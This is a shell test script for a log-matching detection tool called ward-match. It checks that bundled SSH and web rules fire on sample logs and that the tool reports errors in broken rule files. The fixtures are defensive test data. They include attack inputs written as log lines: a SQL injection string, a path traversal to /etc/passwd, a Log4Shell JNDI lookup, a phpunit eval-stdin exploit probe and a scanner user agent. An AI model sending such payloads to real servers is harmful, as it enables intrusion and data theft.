#!/usr/bin/env bash
# ward-match --rules / --rule / --test with the bundled rule pack.
. "$(dirname "$0")/../lib.sh"
RULES=$TOP/rules

# every bundled rule passes its embedded samples
"$W/ward-match" --test "$RULES/ssh.yaml" --test "$RULES/host.yaml" --test "$RULES/web.yaml" >"$T/t" 2>&1
rc=$?
t_eq "rule pack samples pass (exit 0)" "$rc" 0
t_grep "rule pack samples summary" '^[0-9]+ tests, [0-9]+ passed, 0 failed$' "$T/t"
t_eq "every rule has samples" "$(grep -c '^ok' "$T/t")" "$(tail -1 "$T/t" | cut -d' ' -f1)"

cat >"$T/auth.log" <<'LOG'
Nov 28 08:43:52 web1 sshd[812]: Failed password for root from 198.18.0.7 port 4242 ssh2
Nov 28 08:43:53 web1 sshd[812]: Accepted password for alice from 192.0.2.5 port 4243 ssh2
Nov 28 08:43:54 web1 sshd[813]: Invalid user bob from 198.18.0.8 port 22
Nov 28 08:43:55 web1 sshd[813]: Failed password for invalid user bob from 198.18.0.8 port 22 ssh2
LOG
"$W/ward-ingest" --label job=sshd "$T/auth.log" 2>/dev/null | "$W/ward-match" --rules "$RULES/ssh.yaml" >"$T/out" 2>"$T/err"
t_eq "one event per matching rule" "$(grep -o '"rule":"[A-Za-z]*"' "$T/out" | sort | uniq -c | tr -s ' ' | tr '\n' ';')" \
	' 2 "rule":"SSHBruteForce"; 1 "rule":"SSHFailedConnectionBurst"; 2 "rule":"SSHFailedPassword"; 1 "rule":"SSHInvalidUser"; 1 "rule":"SSHRootLoginAttempt"; 2 "rule":"SSHSlowBruteForce"; 3 "rule":"SSHUserEnumeration";'
t_grep "fields extracted for the rule" '"fields":\{"method":"password","user":"root","src_ip":"198.18.0.7","src_port":"4242"\},"rule":"SSHFailedPassword"' "$T/out"
# the alerting rules chain the tagging rules' regexes: each distinct regex runs
# at most once per line, later rules take the cached result
runs=$(t_counter "$T/err" parser_runs)
distinct=$(grep -o 'regexp `[^`]*`' "$RULES/ssh.yaml" | sort -u | wc -l)
t_ok "parsers shared between rules ($runs runs, $(t_counter "$T/err" parser_cache_hits) cache hits)" \
	test "$(t_counter "$T/err" parser_cache_hits)" -gt "$runs" -a "$runs" -le $((4 * distinct))

"$W/ward-ingest" --label job=sshd "$T/auth.log" 2>/dev/null | "$W/ward-match" --rules "$RULES" --rule SSHInvalidUser >"$T/out" 2>/dev/null
t_eq "--rule runs one rule (rules from a directory)" "$(grep -c '"rule":"SSHInvalidUser"' "$T/out")/$(wc -l <"$T/out")" "1/1"
t_status "--rule with an unknown name exits 78" 78 "$W/ward-match" --rules "$RULES" --rule NoSuchRule

# web rules on both log formats, with a precision trap
cat >"$T/access.log" <<'LOG'
198.18.0.9 - - [01/Jun/2024:00:00:00 +0000] "GET /products?id=1%27%20OR%20%271%27%3D%271 HTTP/1.1" 200 153 "-" "curl/8.5.0"
100.64.0.1 - - [01/Jun/2024:00:00:01 +0000] "GET /search?q=O%27Reilly+books HTTP/1.1" 200 153 "-" "Mozilla/5.0"
100.64.0.1 - - [01/Jun/2024:00:00:02 +0000] "GET /search?q=select+a+plan HTTP/1.1" 200 153 "-" "Mozilla/5.0"
LOG
printf '%s\n' '{"remote_addr":"198.18.0.10","request_uri":"/download?file=..%252f..%252fetc/passwd","http_user_agent":"sqlmap/1.8"}' >"$T/access.json"
{ "$W/ward-ingest" --label job=nginx "$T/access.log"; "$W/ward-ingest" --label job=nginx "$T/access.json"; } 2>/dev/null |
	"$W/ward-match" --rules "$RULES/web.yaml" >"$T/out" 2>/dev/null
t_eq "web rules: SQLi, traversal and scanner (signature and alert rules), no false positive" \
	"$(grep -o '"rule":"[A-Za-z]*"' "$T/out" | sort | tr '\n' ' ')" \
	'"rule":"PathTraversal" "rule":"SQLInjection" "rule":"WebPathTraversal" "rule":"WebSQLInjection" "rule":"WebScanner" "rule":"WebScannerUserAgent" '
t_grep "decoded URI and src_ip fields" '"src_ip":"198.18.0.10","user_agent":"sqlmap/1.8","uri":"/download\?file=../../etc/passwd"' "$T/out"

# the other access-log formats: vhost_combined, common, behind a syslog header;
# an address inside the referer never becomes the source
cat >"$T/access2.log" <<'LOG'
www.example.com:443 198.18.0.11 - - [01/Jun/2024:00:00:00 +0000] "GET /.env HTTP/1.1" 404 153 "-" "curl/8.5.0"
198.18.0.12 - - [01/Jun/2024:00:00:00 +0000] "POST /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php HTTP/1.1" 200 2
Jun  1 00:00:00 web1 nginx[812]: 198.18.0.13 - - [01/Jun/2024:00:00:00 +0000] "GET /?x=${jndi:ldap://a/} HTTP/1.1" 404 1 "-" "x"
198.18.0.14 - - [01/Jun/2024:00:00:00 +0000] "GET / HTTP/1.1" 200 1 "203.0.113.9 - - [01/Jun/2024:00:00:00 +0000] \"GET /.env HTTP/1.1\" 404 1" "x"
LOG
"$W/ward-ingest" --label job=nginx "$T/access2.log" 2>/dev/null | "$W/ward-match" --rules "$RULES/web.yaml" >"$T/out" 2>/dev/null
t_eq "web rules: every format, the client position only" \
	"$(grep -o '"src_ip":"[0-9.]*".*"rule":"[A-Za-z0-9]*"' "$T/out" | sed 's/"src_ip":"\([0-9.]*\)".*"rule":"\([A-Za-z0-9]*\)"/\1 \2/' | sort -u | tr '\n' ';')" \
	'198.18.0.11 WebSensitiveFile;198.18.0.11 WebSensitiveFiles;198.18.0.12 WebCVEExploit;198.18.0.12 WebCVEProbe;198.18.0.13 Log4Shell;198.18.0.13 WebLog4Shell;'

# a failing sample fails --test with exit 1
cat >"$T/bad.yaml" <<'YAML'
groups:
  - name: g
    rules:
      - alert: R
        expr: '{job="x"} |= "needle"'
        tests:
          match: ['haystack']
          nomatch: ['needle']
YAML
"$W/ward-match" --test "$T/bad.yaml" >"$T/t" 2>&1
t_eq "failing samples exit 1" "$?" 1
t_grep "failures are named" '^FAIL R .*bad.yaml:7 match: did not match: haystack' "$T/t"

# broken rule files: exit 78 with file:line
printf 'groups:\n  - name: g\n    rules:\n      - alert: R\n        expr: "{job=\\"x\\"} |= "\n' >"$T/syntax.yaml"
t_status "bad expr exits 78" 78 "$W/ward-match" --rules "$T/syntax.yaml"
"$W/ward-match" --rules "$T/syntax.yaml" </dev/null 2>"$T/err"
t_grep "bad expr names file, line, rule and position" 'syntax.yaml:5: rule R: expr 1:14: expected a string' "$T/err"
printf 'groups: [\n' >"$T/yaml.yaml"
t_status "bad YAML exits 78" 78 "$W/ward-match" --rules "$T/yaml.yaml"
t_status "missing rules file exits 78" 78 "$W/ward-match" --rules "$T/nope.yaml"

# Loki rule files with metric exprs load unchanged; the log part runs
cat >"$T/loki.yaml" <<'YAML'
groups:
  - name: soc_auth
    interval: 1m
    rules:
      - alert: SSHBruteForce
        expr: |
          sum by (host, src_ip) (
            count_over_time({job="sshd"} |= "Failed password"
              | regexp `from (?P<src_ip>\S+) port` [5m])
          ) > 20
        for: 2m
        labels:
          severity: high
        annotations:
          summary: "{{ $labels.src_ip }} failed {{ $value }} SSH logins"
      - record: auth:failed_logins:rate5m
        expr: sum by (host) (rate({job="sshd"} |= "Failed password" [5m]))
YAML
"$W/ward-ingest" --label job=sshd "$T/auth.log" 2>/dev/null | "$W/ward-match" --rules "$T/loki.yaml" >"$T/out" 2>/dev/null
t_eq "Loki ruler file: alert and record rules run their log parts" \
	"$(grep -o '"rule":"[^"]*"' "$T/out" | sort | uniq -c | tr -s ' ' | tr '\n' ';')" \
	' 2 "rule":"SSHBruteForce"; 2 "rule":"auth:failed_logins:rate5m";'
